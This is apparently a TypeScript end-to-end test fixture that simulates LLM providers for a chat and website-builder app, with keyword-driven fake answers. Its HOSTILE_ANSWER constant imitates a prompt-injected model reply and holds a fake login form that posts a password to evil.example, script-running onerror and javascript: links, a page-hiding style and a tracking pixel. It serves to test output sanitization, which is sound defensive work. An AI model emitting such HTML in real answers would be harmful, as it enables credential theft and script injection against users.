// How the fake model providers of the browser tests answer (they run inside the
// global setup, so the tests steer them only through what they ask). By default
// every model echoes the question quickly; keywords in the question change that:
//   SLOWSTREAM  every model streams 60 words over 60 s (to test Stop: a busy machine
//               must never see it end before the test presses Stop)
//   SHORTSTREAM every model streams 60 words over 8 s (a test that waits for the end)
//   FAILGEMINI  Gemini rejects the key (one failed card)
//   FAILALL     every model rejects the key (the turn fails)
//   ONCEGEMINI  Gemini rejects the key the first time it sees the question, then
//               answers (Retry on its card); make the question unique per test
//   NEWTAKE     each model answers "Take <n> from <model>: <question>", n counting
//               the times it saw the question (Regenerate gets a new answer)
//   BENCHTIMING first token after 300 ms, complete after 1.5 s (npm run bench)
//   BENCHINSTANT answers at once (npm run bench: the function's own overhead)
//   MODELCOPY   (in a website description) the model writes valid site copy JSON
//   Mr. Support (a system prompt that starts 'You are Mr. Support') answers as a
//               model following it would: it links the first guide section the
//               prompt carries, or says it does not know; SUPPORTSLOW streams it over 3 s
//   <passage cite="…"> blocks in the system prompt (files attached to the chat): the
//               model answers as one following the prompt would, quoting the first
//               passage's first sentence with its citation, "[name p. N]"
//   HOSTILEHTML the answer mixes markdown with HTML meant to run script, post a
//               form or restyle the app (HOSTILE_ANSWER)
import { sawImages, type FakeReply, type Responder } from '../fixtures/fake-llm.ts';

/** When each request reached a fake provider (the bench derives the first-token time from it). */
export const providerArrivals: { model: string; question: string; at: number }[] = [];
export const BENCH_FIRST_TOKEN_MS = 300;
export const BENCH_TOTAL_MS = 1500;

/** Site copy as a model following the website copywriter prompt would write it. */
export const MODEL_SITE_COPY = {
  headline: 'Model-written headline for a harbour bakery',
  tagline: 'Sourdough and pastries baked at dawn, written by the fake model.',
  about: 'We bake every morning with flour from nearby mills.\n\nOur family has run this bakery for three generations.',
  services: [
    { title: 'Sourdough loaves', description: 'Slow-fermented bread with a crisp crust, baked fresh each morning.' },
    { title: 'Pastries', description: 'Croissants, cinnamon buns and seasonal fruit tarts from our own kitchen.' },
    { title: 'Celebration cakes', description: 'Birthday and wedding cakes made to order with a week of notice.' },
  ],
  highlights: [
    { title: 'Baked daily', description: 'Nothing on our shelves is older than one morning.' },
    { title: 'Local flour', description: 'We buy our grain from farms within fifty miles.' },
    { title: 'Family run', description: 'The same family has greeted customers for decades.' },
  ],
  faq: [
    { question: 'When do you open?', answer: 'Every day from seven in the morning until the bread runs out.' },
    { question: 'Do you take cake orders?', answer: 'Yes, send us the date and size at least one week ahead.' },
    { question: 'Is there gluten-free bread?', answer: 'We bake one gluten-free loaf on Fridays; ask us to set one aside.' },
  ],
  cta: { heading: 'Order your cake', text: 'Tell us the date and the number of guests and we will do the rest.', button: 'Order now' },
};

/**
 * What a prompt-injected model could answer: legitimate markdown (a heading, a
 * list, a table, code, a link, an image) around HTML that must not survive.
 * Anything that runs sets window.__hostile.
 */
export const HOSTILE_ANSWER = [
  '## Findings',
  '',
  'Some **bold** and *calm* text with a [safe link](https://example.com/docs) and `code`.',
  '',
  '- first',
  '- second',
  '',
  '| plan | price |',
  '| --- | ---: |',
  '| pro | 149 |',
  '',
  '<form action="https://evil.example/steal" method="post"><input name="password" placeholder="Password"><button>Log in again</button></form>',
  '',
  '<style>body { display: none !important; }</style>',
  '',
  '<img src="x" onerror="window.__hostile = \'img onerror\'">',
  '',
  "[click me](javascript:window.__hostile='markdown link')",
  '',
  '<a href="javascript:window.__hostile=\'html link\'">raw link</a> <p style="position:fixed;inset:0" class="fixed inset-0">cover</p>',
  '',
  '![tracker](https://evil.example/pixel.png?chat=secret)',
].join('\n');

const geminiFailedOnce = new Set<string>();

const takes = new Map<string, number>();

export const e2eResponder: Responder = (request) => {
  const question = request.messages.filter((m) => m.role === 'user').at(-1)?.content ?? '';
  if (question.includes('NEWTAKE')) {
    const take = (takes.get(`${request.model} ${question}`) ?? 0) + 1;
    takes.set(`${request.model} ${question}`, take);
    return { text: `Take ${take} from ${request.model}: ${question}`, firstTokenDelayMs: 50, totalDurationMs: 300 };
  }
  if (question.includes('ONCEGEMINI') && request.model.startsWith('gemini') && !geminiFailedOnce.has(question)) {
    geminiFailedOnce.add(question);
    return { status: 401, errorMessage: 'invalid api key' };
  }
  if (request.system?.startsWith('You are Mr. Support')) return supportAnswer(request.system, question);
  if (request.json && question.includes('MODELCOPY')) return { text: JSON.stringify(MODEL_SITE_COPY) };
  if (question.includes('BENCH')) {
    providerArrivals.push({ model: request.model, question, at: Date.now() });
    if (question.includes('BENCHINSTANT')) return { text: `Bench answer from ${request.model}.` };
    const text = `Bench answer from ${request.model}: ${'token '.repeat(40)}`;
    return { text, firstTokenDelayMs: BENCH_FIRST_TOKEN_MS, totalDurationMs: BENCH_TOTAL_MS };
  }
  if (question.includes('FAILALL') || (question.includes('FAILGEMINI') && request.model.startsWith('gemini'))) {
    return { status: 401, errorMessage: 'invalid api key' };
  }
  if (question.includes('HOSTILEHTML')) return { text: HOSTILE_ANSWER, firstTokenDelayMs: 50, totalDurationMs: 300 };
  if (question.includes('SLOWSTREAM') || question.includes('SHORTSTREAM')) {
    const totalDurationMs = question.includes('SLOWSTREAM') ? 60_000 : 8_000;
    return { text: `Slow answer from ${request.model}: ${'word '.repeat(60)}`, firstTokenDelayMs: 50, totalDurationMs };
  }
  const passage = /<passage cite="([^"]+)"[^>]*>\n([\s\S]*?)\n<\/passage>/.exec(request.system ?? '');
  if (passage) {
    const sentence = /^[^.!?\n]*[.!?]?/.exec(passage[2]!.trim())?.[0] ?? '';
    const text = `Answer from ${request.model}: ${question}\n\nYour file says: ${sentence} [${passage[1]}]`;
    return { text, firstTokenDelayMs: 50, totalDurationMs: 300 };
  }
  return { text: `Answer from ${request.model}: ${question}${sawImages(request.images)}`, firstTokenDelayMs: 50, totalDurationMs: 300 };
};

/** Mr. Support's model, as the prompt asks: the first section given answers, its screen linked, its source line last. */
function supportAnswer(system: string, question: string): FakeReply {
  const first = system.indexOf('### Section 1:');
  const given =
    first < 0 ? '' : system.slice(first, system.indexOf('\n### Section 2:') < 0 ? undefined : system.indexOf('\n### Section 2:'));
  const screen = /^Screen: (\[[^\]]+\]\(\/[^)]*\))/m.exec(given)?.[1];
  const source = /^Source line: (Source: .+)$/m.exec(given)?.[1];
  const text = source
    ? `The guide explains this. You asked: "${question}". Read more in ${screen ?? 'the guide'}.\n\n${source}`
    : `I don't know the answer to that. You asked: "${question}".`;
  return { text, firstTokenDelayMs: 50, totalDurationMs: question.includes('SUPPORTSLOW') ? 3000 : 400 };
}
